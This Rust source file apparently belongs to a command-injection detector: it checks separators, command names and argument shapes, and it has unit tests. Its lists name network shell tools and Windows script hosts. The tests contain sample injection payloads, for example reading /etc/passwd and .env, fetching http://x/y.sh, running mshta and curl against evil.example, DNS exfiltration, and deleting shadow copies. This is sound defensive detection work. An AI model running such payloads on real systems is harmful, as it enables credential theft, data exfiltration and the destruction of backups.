//! Confirmation of command-injection candidates with a shell-token check: which separator
//! introduces the command, how unambiguous the command name is, and whether its arguments have
//! shell shape (flags, paths, addresses, redirections) rather than English words.

use std::sync::LazyLock;

use super::words::WordSet;
use super::View;

/// Commands that are almost never English words: any separator before them is enough.
const UNAMBIGUOUS: &[&str] = &[
    "whoami",
    "vssadmin",
    "bcdedit",
    "wevtutil",
    "uname",
    "ifconfig",
    "ipconfig",
    "systeminfo",
    "sysinfo",
    "netstat",
    "nslookup",
    "wget",
    "curl",
    "ncat",
    "netcat",
    "bash",
    "zsh",
    "ksh",
    "csh",
    "tcsh",
    "powershell",
    "pwsh",
    "passwd",
    "tasklist",
    "taskkill",
    "certutil",
    "bitsadmin",
    "xterm",
    "mkfifo",
    "mknod",
    "socat",
    "chmod",
    "chown",
    "crontab",
    "wmic",
    "useradd",
    "usermod",
    "nohup",
    "xargs",
    "printenv",
    "ipconfig.exe",
    "cmd.exe",
    "whoami.exe",
    "lsof",
    "traceroute",
    "tracert",
    "nbtstat",
    "schtasks",
    "icacls",
    "cacls",
    "findstr",
    "telnet",
    "tftp",
    "gawk",
    "egrep",
    "base64",
    "pkill",
    "killall",
    "rmdir",
    "chattr",
    "iptables",
    "netsh",
    "busybox",
];

/// Commands of Windows shells, which ignore case (`DIR`, `Net User`); Unix shells do not, so
/// `ID` or `Ls` (common in binary data read as text) is no command there.
const WINDOWS: &[&str] = &[
    "cmd",
    "powershell",
    "pwsh",
    "ipconfig",
    "systeminfo",
    "tasklist",
    "taskkill",
    "certutil",
    "bitsadmin",
    "vssadmin",
    "bcdedit",
    "wevtutil",
    "wmic",
    "tracert",
    "nbtstat",
    "schtasks",
    "icacls",
    "cacls",
    "findstr",
    "netsh",
    "netstat",
    "nslookup",
    "hostname",
    "whoami",
    "ping",
    "route",
    "arp",
    "dir",
    "type",
    "echo",
    "set",
    "more",
    "find",
    "net",
    "reg",
    "sc",
    "del",
    "copy",
    "ver",
    "vol",
    "tree",
    "attrib",
    "shutdown",
    "timeout",
    "choice",
];

/// Windows programs that run the script or library their arguments name (living-off-the-land
/// binaries): unambiguous, and case-insensitive like every Windows command.
const SCRIPT_HOSTS: &[&str] = &[
    "mshta", "regsvr32", "rundll32", "cscript", "wscript", "msiexec", "forfiles",
];

/// Commands that run the command named by their arguments (`eval id`, `nice -n 5 id`,
/// `env A=1 id`): the one they run is the one to judge.
const WRAPPERS: &[&str] = &[
    "eval", "command", "builtin", "exec", "env", "time", "nice", "nohup", "sudo", "doas", "xargs",
    "timeout", "setsid", "stdbuf", "ionice", "busybox",
];

/// Wrappers followed through (`builtin eval whoami`).
const MAX_WRAPPERS: usize = 3;
/// Options and numbers skipped after a wrapper to find the command it runs.
const MAX_WRAPPER_ARGS: usize = 4;

/// Bytes after a substituted command within which its closing `)` or backtick must come.
const SUBSTITUTION_REACH: usize = 200;

/// Commands whose arguments carry a number (delays, counts).
const TIMING: &[&str] = &["sleep", "ping", "timeout", "usleep", "choice"];

/// Commands whose first argument is a host name (`dig evil.example`): exfiltration by DNS or
/// a connection out.
const NETWORK: &[&str] = &[
    "ping",
    "dig",
    "host",
    "nslookup",
    "curl",
    "wget",
    "nc",
    "ncat",
    "netcat",
    "telnet",
    "ssh",
    "tftp",
    "traceroute",
    "tracert",
    "socat",
    "scp",
    "rsync",
];

/// `evil.example`, `a.b-c.example`: two or more labels, the last one letters only.
fn host_name_shaped(word: &str) -> bool {
    let label_ok = |l: &str| {
        !l.is_empty() && l.len() <= 63 && l.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'-')
    };
    let Some((_, tld)) = word.rsplit_once('.') else {
        return false;
    };
    word.len() <= 253
        && word.split('.').all(label_ok)
        && tld.len() >= 2
        && tld.bytes().all(|b| b.is_ascii_alphabetic())
}

#[derive(Clone, Copy, PartialEq, Eq, Debug)]
enum Separator {
    /// `;`, `|`, `&`, backtick, `$(`, a line start inside the message.
    Shell,
    /// A quote or paren that closes the application's literal or call.
    Quote,
    /// The message starts with the command.
    Start,
}

#[derive(Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Debug)]
enum Shape {
    /// English-looking arguments.
    Words,
    /// Nothing, or another separator right away (`; id;`).
    Empty,
    /// Flags, paths, addresses, redirections, delays.
    Shell,
}

/// How much the arguments look like a shell's; `None` if the word is not a command at all
/// (`curl/7.31`, `ls.txt`).
fn argument_shape(command: &str, args: &str) -> Option<Shape> {
    let args = args.strip_prefix(".exe").unwrap_or(args);
    if args.chars().next().is_some_and(|c| {
        !matches!(
            c,
            ' ' | '\n' | ';' | '|' | '&' | '`' | ')' | '>' | '<' | '\'' | '"' | '#'
        )
    }) {
        return None;
    }
    let glued_comment = args.starts_with('#');
    // A line break ends the command in the lines view.
    let args = args.split('\n').next().unwrap_or("").trim_start();
    let first = args
        .split([' ', ';', '|', '&', '`', ')'])
        .next()
        .unwrap_or("");
    // A comment ends the command line; `#` glued to the command, or standing alone (a
    // hashtag after a space is more likely chat).
    if first.is_empty() || glued_comment || first.bytes().all(|b| b == b'#') {
        return Some(Shape::Empty);
    }
    Some(if shell_shaped(command, first, args) {
        Shape::Shell
    } else {
        Shape::Words
    })
}

fn shell_shaped(command: &str, first: &str, args: &str) -> bool {
    let b = first.as_bytes();
    if matches!(
        b[0],
        b'-' | b'/' | b'\\' | b'~' | b'>' | b'<' | b'$' | b'*' | b'%' | b'`'
    ) || first.starts_with("./")
        || first.starts_with("../")
        || first.contains("://")
        || first.contains("/")
        || (b.len() >= 2 && b[0].is_ascii_alphabetic() && b[1] == b':')
        || first.contains('*')
        || first.starts_with("2>")
        // A dotfile (`.env`, `.ssh/id_rsa`).
        || (b[0] == b'.' && b.get(1).is_some_and(u8::is_ascii_alphanumeric))
    {
        return true;
    }
    let numeric = first.bytes().all(|c| c.is_ascii_digit() || c == b'.');
    if numeric {
        return TIMING.contains(&command) || first.contains('.');
    }
    // A host, or a login at one (`ssh root@10.0.0.1`).
    let host = first.rsplit_once('@').map_or(first, |(_, host)| host);
    let address = host.split('.').count() == 4 && host.split('.').all(|n| n.parse::<u8>().is_ok());
    if NETWORK.contains(&command) && (host_name_shaped(host) || address) {
        return true;
    }
    // `echo` output redirected or piped, e.g. `echo x > file`.
    command == "echo" && (args.contains('>') || args.contains('|'))
}

/// Reads back from the end of the command word over its path and one space to the separator
/// (or the start of the text / a line).
fn separator_before(text: &str, end: usize) -> Option<usize> {
    let bytes = text.as_bytes();
    let mut i = end;
    while i > 0
        && (bytes[i - 1].is_ascii_alphanumeric()
            || matches!(bytes[i - 1], b'_' | b'.' | b'~' | b'/' | b'-'))
    {
        i -= 1;
    }
    let word_start = i;
    if i > 0 && bytes[i - 1] == b' ' {
        i -= 1;
    }
    match i.checked_sub(1).map(|p| bytes[p]) {
        None | Some(b'\n') => Some(word_start),
        // `$(`, and process substitution `<(` / `>(`.
        Some(b'(') if i >= 2 && matches!(bytes[i - 2], b'$' | b'<' | b'>') => Some(i - 2),
        Some(b';' | b'&' | b'|' | b'`' | b'\'' | b'"' | b'(' | b')' | b'@' | b'{') => Some(i - 1),
        _ => None,
    }
}

fn separator_at(text: &str, start: usize) -> (Separator, usize) {
    if start > 0 && text.as_bytes()[start - 1] == b'\n' {
        return (Separator::Shell, start);
    }
    let rest = &text[start..];
    let first = rest.as_bytes().first().copied().unwrap_or(b' ');
    let kind = match first {
        // A brace group (`{ id; }`) runs its commands like a line.
        b';' | b'|' | b'&' | b'`' | b'\n' | b'{' => Separator::Shell,
        b'$' | b'<' | b'>' => Separator::Shell,
        b'\'' | b'"' | b'(' | b')' => Separator::Quote,
        _ => Separator::Start,
    };
    let skip = match kind {
        Separator::Start => 0,
        _ => rest.len() - rest[1..].trim_start_matches(['(', ' ']).len(),
    };
    (kind, start + skip)
}

static UNAMBIGUOUS_SET: LazyLock<WordSet> =
    LazyLock::new(|| WordSet::new(&[UNAMBIGUOUS, SCRIPT_HOSTS].concat()));
static COMMAND_SET: LazyLock<WordSet> = LazyLock::new(|| WordSet::new(&command_words()));

/// Longer words are not in `commands!()` (checked by a test).
const LONGEST_COMMAND: usize = 10;

/// The words of `commands!()`, the list the command-injection expressions alternate over.
fn command_words() -> Vec<&'static str> {
    commands!()
        .strip_prefix("(?:")
        .and_then(|list| list.strip_suffix(')'))
        .expect("commands!() is one non-capturing group")
        .split('|')
        .collect()
}
static WINDOWS_SET: LazyLock<WordSet> =
    LazyLock::new(|| WordSet::new(&[WINDOWS, SCRIPT_HOSTS].concat()));
static WRAPPER_SET: LazyLock<WordSet> = LazyLock::new(|| WordSet::new(WRAPPERS));

/// Length of the command-like word `bytes` start with (letters, digits, `_`), counted up to
/// one past [`LONGEST_COMMAND`].
fn command_word_len(bytes: &[u8]) -> usize {
    bytes
        .iter()
        .take(LONGEST_COMMAND + 1)
        .take_while(|b| b.is_ascii_alphanumeric() || **b == b'_')
        .count()
}

/// The command a wrapper command word `text[start..end]` runs (`eval id`, `nice -n 5 id`), as
/// the span of its name; the word itself when it wraps nothing known.
fn wrapped_command(text: &str, mut start: usize, mut end: usize) -> (usize, usize) {
    for _ in 0..MAX_WRAPPERS {
        if !WRAPPER_SET.contains(&text[start..end]) {
            break;
        }
        match command_after_options(text, end) {
            Some(inner) => (start, end) = inner,
            None => break,
        }
    }
    (start, end)
}

/// The known command word after the options, assignments and numbers that follow `at` (a
/// wrapper's arguments), as its span.
fn command_after_options(text: &str, mut at: usize) -> Option<(usize, usize)> {
    for _ in 0..=MAX_WRAPPER_ARGS {
        let token_start = at + 1;
        if !text[at..].starts_with(' ') {
            return None;
        }
        let token_len = text[token_start..]
            .find([' ', ';', '|', '&', '`', ')', '\n'])
            .unwrap_or(text.len() - token_start);
        let token = &text[token_start..token_start + token_len];
        let option = token.starts_with('-')
            || token.contains('=')
            || token.bytes().all(|b| b.is_ascii_digit() || b == b'.');
        if !option {
            let word = command_word_len(token.as_bytes());
            let known = word > 0 && word <= LONGEST_COMMAND && COMMAND_SET.contains(&token[..word]);
            return known.then_some((token_start, token_start + word));
        }
        at = token_start + token_len;
    }
    None
}

/// `$(cmd ...)` or `` `cmd ...` `` opened at `start` and closed after the command word
/// ending at `end`: the shell runs the command whatever its arguments look like.
fn closed_substitution(text: &str, start: usize, end: usize) -> bool {
    let bytes = text.as_bytes();
    let close = match bytes[start] {
        b'$' => b')',
        b'`' => b'`',
        _ => return false,
    };
    let rest = &bytes[end..];
    rest[..rest.len().min(SUBSTITUTION_REACH)].contains(&close)
}

/// A command after a separator: `; cat /etc/passwd`, `| id`, `" whoami`, `a);ls -la`.
/// In the shell view, where quote/backslash tricks were removed, a command word that needed
/// them is suspicious even at the start of the message; in the lines view every line start
/// separates commands.
// Out of line, so that the inlined fast paths of its callers stay small.
#[inline(never)]
pub fn chained_command(text: &str, _start: usize, end: usize, view: View) -> bool {
    let Some(start) = separator_before(text, end) else {
        return false;
    };
    let deobfuscated = view == View::Shell;
    let (mut separator, command_start) = separator_at(text, start);
    if view == View::Lines && separator == Separator::Start {
        separator = Separator::Shell;
    }
    let command_path = &text[command_start.min(end)..end];
    let name = command_path
        .rsplit(['/', '\\'])
        .next()
        .unwrap_or(command_path);
    let (name_start, end) = wrapped_command(text, end - name.len(), end);
    let name = &text[name_start..end];
    // Every message's JSON keys come here (a key "id" starts its view): decide without
    // allocating until the arguments have to be read.
    if name.bytes().any(|b| b.is_ascii_uppercase()) && !WINDOWS_SET.contains(name) {
        return false;
    }
    let absolute = command_path.contains('/') || command_path.contains('\\');
    let unambiguous = absolute || UNAMBIGUOUS_SET.contains(name);
    // A word that merely starts a view needs no argument parsing.
    if separator == Separator::Start && !deobfuscated && !unambiguous {
        return false;
    }
    let Some(shape) = argument_shape(&name.to_ascii_lowercase(), &text[end..]) else {
        return false;
    };
    match separator {
        Separator::Shell => {
            unambiguous || shape >= Shape::Empty || closed_substitution(text, start, end)
        }
        Separator::Quote => unambiguous || shape == Shape::Shell,
        Separator::Start if deobfuscated => {
            (unambiguous && shape >= Shape::Empty) || shape == Shape::Shell
        }
        Separator::Start => unambiguous && shape == Shape::Shell,
    }
}

/// A command word starting `text` (a segment of `view`) or, in the lines view, one of its
/// lines, confirmed like one after a separator. Returns where the command word ends.
pub fn line_start_command(text: &str, view: View) -> Option<usize> {
    if let Some(end) = command_at_line_start(text, 0, view) {
        return Some(end);
    }
    // Only the lines view keeps line breaks inside a segment.
    if view != View::Lines {
        return None;
    }
    memchr::memchr_iter(b'\n', text.as_bytes())
        .find_map(|line_break| command_at_line_start(text, line_break + 1, view))
}

/// Every segment of every message comes here: the word is ruled out inline where it can be,
/// and only a known command word goes on to the confirmer.
#[inline]
fn command_at_line_start(text: &str, start: usize, view: View) -> Option<usize> {
    let bytes = text.as_bytes();
    if !bytes.get(start).is_some_and(u8::is_ascii_alphabetic) {
        return None;
    }
    let word = command_word_len(&bytes[start..]);
    let end = start + word;
    // Outside the lines and shell views a word that starts a view passes `chained_command`
    // only if it is unambiguous and has shell-shaped arguments, so a lone word (a JSON key)
    // never does; asking that first spares every key its parsing.
    let plain_view = !matches!(view, View::Lines | View::Shell);
    if word > LONGEST_COMMAND || (plain_view && end == bytes.len()) {
        return None;
    }
    let command = &text[start..end];
    let known = if plain_view {
        UNAMBIGUOUS_SET.contains(command) && COMMAND_SET.contains(command)
    } else {
        COMMAND_SET.contains(command)
    };
    (known && chained_command(text, start, end, view)).then_some(end)
}

#[cfg(test)]
mod tests {
    use super::{chained_command, command_words, line_start_command, LONGEST_COMMAND};
    use crate::rules::View;

    fn check(text: &str, sep_at: usize, command: &str) -> bool {
        let end = text.find(command).unwrap() + command.len();
        chained_command(text, sep_at, end, View::Original)
    }

    #[test]
    fn attacks() {
        assert!(check("; cat /etc/passwd", 0, "cat"));
        assert!(check("a | id", 2, "id"));
        assert!(check("\" whoami", 0, "whoami"));
        assert!(check("x && ping -c 10 10.0.0.1", 2, "ping"));
        assert!(check("& sleep 5", 0, "sleep"));
        assert!(check("$(id)", 0, "id"));
        assert!(check("x;$(printf 'id')", 2, "printf"));
        assert!(check("`echo hello world`", 0, "echo"));
        assert!(check("'ls -la /home'", 0, "ls"));
        assert!(check("wget http://x/y.sh", 0, "wget"));
        assert!(check("|/usr/bin/id|", 0, "/usr/bin/id"));
        assert!(check("foo\nid", 4, "id"));
        let obfuscated = "whoami";
        assert!(chained_command(obfuscated, 0, 6, View::Shell));
        assert!(!chained_command(obfuscated, 0, 6, View::Original));
        assert!(chained_command("id\nfoo", 0, 2, View::Lines));
        assert!(!check("curl/7.31.0-DEV", 0, "curl"));
        assert!(check("; cmd.exe /c dir", 0, "cmd"));
        assert!(check("x;id #", 1, "id"));
        assert!(check("x|whoami#", 1, "whoami"));
        assert!(check("x;cat .env", 1, "cat"));
        assert!(check("& mshta http://evil.example/x.hta", 0, "mshta"));
        // Process substitution, a brace group, a login at an address, a Windows admin tool.
        assert!(check("cat <(id)", 4, "id"));
        assert!(check("x >(curl evil.example)", 2, "curl"));
        assert!(check("a;{ whoami; }", 2, "whoami"));
        assert!(check("x; ssh root@10.0.0.1", 1, "ssh"));
        assert!(check("a&VSSADMIN delete shadows /all", 1, "VSSADMIN"));
    }

    #[test]
    fn wrappers_are_judged_by_what_they_run() {
        assert!(check("x;eval id", 1, "eval"));
        assert!(check("x;command -p id", 1, "command"));
        assert!(check("x;builtin eval whoami", 1, "builtin"));
        assert!(check("x;nice -n 5 cat /etc/hosts", 1, "nice"));
        assert!(check("x;env A=1 id", 1, "env"));
        assert!(!check("so; time to go", 2, "time"));
        assert!(!check("ok; nice id card", 2, "nice"));
        assert!(!check("lol; command center is ready", 3, "command"));
    }

    #[test]
    fn chat() {
        assert!(!check("(id card)", 0, "id"));
        assert!(!check("I'm tired; sleep now", 9, "sleep"));
        assert!(!check("lol; echo that", 3, "echo"));
        assert!(!check("cat food is great", 0, "cat"));
        assert!(!check("so; time for bed", 2, "time"));
        assert!(!check("it costs $(more than you think", 2, "more"));
        assert!(!check("done; ls #1 priority", 4, "ls"));
        assert!(!check("haha; dig it.", 4, "dig"));
        assert!(!check("ok; host a party", 2, "host"));
    }

    #[test]
    fn network_commands_with_a_host_name() {
        assert!(check("x; dig evil.example", 1, "dig"));
        assert!(check(
            "x | nslookup a1.data.evil-host.example",
            2,
            "nslookup"
        ));
        assert!(check("x; curl evil.example", 1, "curl"));
        assert!(!check("x; dig evil.example2", 1, "dig"));
        assert!(!check("x; cat evil.example", 1, "cat"));
    }

    #[test]
    fn commands_start_views_and_lines() {
        assert_eq!(line_start_command("whoami", View::Shell), Some(6));
        assert_eq!(line_start_command("whoami", View::Original), None);
        assert_eq!(
            line_start_command("wget http://x/y.sh", View::Original),
            Some(4)
        );
        assert_eq!(line_start_command("hi\nid", View::Lines), Some(5));
        assert_eq!(line_start_command("id", View::Original), None);
        assert_eq!(line_start_command("idle\nidx", View::Lines), None);
        assert_eq!(line_start_command("cat food\nis great", View::Lines), None);
    }

    #[test]
    fn command_list_is_plain_words() {
        let words = command_words();
        assert!(words.len() > 100);
        assert_eq!(words.iter().map(|w| w.len()).max(), Some(LONGEST_COMMAND));
        for word in words {
            assert!(
                word.bytes()
                    .all(|b| b.is_ascii_lowercase() || b.is_ascii_digit()),
                "{word:?}"
            );
        }
    }

    #[test]
    fn only_windows_commands_ignore_case() {
        assert!(check("x; DIR c:\\", 1, "DIR"));
        assert!(check("x & Ping -n 3 10.0.0.1", 2, "Ping"));
        assert!(!check("x; ID;", 1, "ID"));
        assert!(!check("x|Ls>", 1, "Ls"));
    }
}
